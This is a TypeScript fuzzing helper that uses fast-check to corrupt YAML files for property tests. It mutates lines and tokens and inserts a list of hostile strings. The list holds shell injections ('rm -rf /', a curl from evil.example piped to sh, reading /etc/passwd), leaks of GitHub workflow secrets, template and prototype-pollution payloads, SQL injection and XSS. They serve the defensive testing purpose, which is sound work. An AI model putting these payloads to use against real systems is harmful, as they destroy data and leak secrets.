/**
 * Damage to YAML text, the way a person editing by hand or a hostile user could do it: lines deleted, duplicated,
 * swapped or re-indented, the text truncated or cut, stray YAML tokens and bytes inserted, and values replaced by odd
 * scalars and hostile strings (templates, workflow expressions, shell, prototype keys). Shared by the property tests,
 * which apply a few of these to a valid example file and check that the result is still handled cleanly.
 */
import fc from "fast-check";
import { parse } from "yaml";

// ---------------------------------------------------------------------------------------------------------------
// Hostile strings: what a template engine, a workflow or a shell would act on, and what a merge would follow.

export const HOSTILE = [
  "{{constructor.constructor}}",
  "{{constructor.constructor('return process')().exit()}}",
  "{{#with \"s\" as |string|}}{{string.sub.apply 0 constructor}}{{/with}}",
  "{{> partial}}",
  "{{{raw}}}",
  "{{lookup this '__proto__'}}",
  "${{ secrets.GITHUB_TOKEN }}",
  "${{ github.event.pull_request.title }}",
  "${{ toJSON(secrets) }}",
  "$(rm -rf /)",
  "`rm -rf /`",
  "; rm -rf / #",
  "&& curl evil.example | sh",
  "| cat /etc/passwd",
  "'; DROP TABLE requests; --",
  "\"$(id)\"",
  "${HOME}",
  "%ENV%",
  "\\\"\\n::set-output name=x::y",
  "::add-mask::x",
  "__proto__",
  "constructor",
  "prototype",
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "\u0000",
  "\u202e",
  "#{7*7}",
  "<%= 7*7 %>",
] as const;

export const hostileString = fc
  .tuple(
    fc.constantFrom(...HOSTILE),
    fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "grapheme", maxLength: 8 }), fc.string({ maxLength: 8 })), { maxLength: 4 }),
  )
  .map(([first, rest]) => [first, ...rest].join(""));

// ---------------------------------------------------------------------------------------------------------------
// Text mutations

const TOKENS = [":", ": ", "-", "- ", "[", "]", "{", "}", "&a ", "*a", "!!binary ", "!!js/function ", '"', "'", "|", ">", "#", "__proto__: ", "constructor: ", "? ", "---\n", "...", "\t", "{{", "}}", "${{", "$(", "%YAML 1.1\n", "\\", ",", "\r\n", "\r", "\u00e9", "\u{1F600}", "\uFEFF", "\u0000"];

const scalarValue = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "grapheme", maxLength: 10 }),
  fc.integer().map(String),
  fc.double({ noNaN: false }).map(String),
  fc.constantFrom("true", "false", "null", "~", "yes", "no", "1.1", "1e3", "0x1F", ".inf", "-.nan", '""', "[]", "{}", "[a, {b: c}]", "{__proto__: {polluted: 1}}", "2025-08-16", "12:30", "*", "x", ">=", "||", "requests/", "{{ x }}", "'{{ nope }}'"),
  hostileString.map((s) => JSON.stringify(s)),
);

export type TextMutation =
  | { op: "delete"; line: number }
  | { op: "duplicate"; line: number }
  | { op: "swap"; line: number; other: number }
  | { op: "indent"; line: number; delta: number }
  | { op: "truncate"; at: number }
  | { op: "cut"; at: number; length: number }
  | { op: "insert"; at: number; text: string }
  | { op: "token"; at: number; token: string }
  | { op: "scalar"; line: number; value: string };

export const textMutation: fc.Arbitrary<TextMutation> = fc.oneof(
  fc.record({ op: fc.constant("delete" as const), line: fc.nat() }),
  fc.record({ op: fc.constant("duplicate" as const), line: fc.nat() }),
  fc.record({ op: fc.constant("swap" as const), line: fc.nat(), other: fc.nat() }),
  fc.record({ op: fc.constant("indent" as const), line: fc.nat(), delta: fc.integer({ min: -8, max: 8 }) }),
  fc.record({ op: fc.constant("truncate" as const), at: fc.nat() }),
  fc.record({ op: fc.constant("cut" as const), at: fc.nat(), length: fc.integer({ min: 1, max: 12 }) }),
  fc.record({ op: fc.constant("insert" as const), at: fc.nat(), text: fc.oneof(fc.string({ minLength: 1, maxLength: 8 }), fc.string({ unit: "binary", minLength: 1, maxLength: 4 })) }),
  fc.record({ op: fc.constant("token" as const), at: fc.nat(), token: fc.constantFrom(...TOKENS) }),
  fc.record({ op: fc.constant("scalar" as const), line: fc.nat(), value: scalarValue }),
);

export function applyText(text: string, m: TextMutation): string {
  const lines = text.split("\n");
  const n = lines.length;
  switch (m.op) {
    case "delete":
      lines.splice(m.line % n, 1);
      return lines.join("\n");
    case "duplicate": {
      const i = m.line % n;
      lines.splice(i, 0, lines[i]!);
      return lines.join("\n");
    }
    case "swap": {
      const i = m.line % n;
      const j = m.other % n;
      [lines[i], lines[j]] = [lines[j]!, lines[i]!];
      return lines.join("\n");
    }
    case "indent": {
      const i = m.line % n;
      const line = lines[i]!;
      lines[i] = m.delta >= 0 ? " ".repeat(m.delta) + line : line.replace(new RegExp(`^ {0,${-m.delta}}`), "");
      return lines.join("\n");
    }
    case "truncate":
      return text.slice(0, m.at % (text.length + 1));
    case "cut": {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + text.slice(at + m.length);
    }
    case "insert":
    case "token": {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + (m.op === "insert" ? m.text : m.token) + text.slice(at);
    }
    case "scalar": {
      // Replace the value of the first `key: value` line at or after the chosen one.
      for (let k = 0; k < n; k++) {
        const i = (m.line + k) % n;
        const match = /^(\s*(?:- )?[A-Za-z_][\w-]*:\s)(.+)$/.exec(lines[i]!);
        if (match) {
          lines[i] = match[1] + m.value;
          return lines.join("\n");
        }
      }
      return text;
    }
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Structured mutations work on the data of a YAML text

export type Path = (string | number)[];

/** The data of a YAML text, without printing the parser's warnings. */
export function parseQuietly(text: string): unknown {
  return parse(text, { logLevel: "error" }) as unknown;
}

export function isObject(v: unknown): v is Record<string, unknown> {
  return typeof v === "object" && v !== null && !Array.isArray(v);
}

/** Every path in the value: entries of mappings and of lists (for drop, retype, rename) or containers (for add). */
export function paths(value: unknown, prefix: Path = [], out: { entries: Path[]; containers: Path[] } = { entries: [], containers: [] }) {
  if (Array.isArray(value)) {
    out.containers.push(prefix);
    value.forEach((v, i) => {
      out.entries.push([...prefix, i]);
      paths(v, [...prefix, i], out);
    });
  } else if (isObject(value)) {
    out.containers.push(prefix);
    for (const [k, v] of Object.entries(value)) {
      out.entries.push([...prefix, k]);
      paths(v, [...prefix, k], out);
    }
  }
  return out;
}
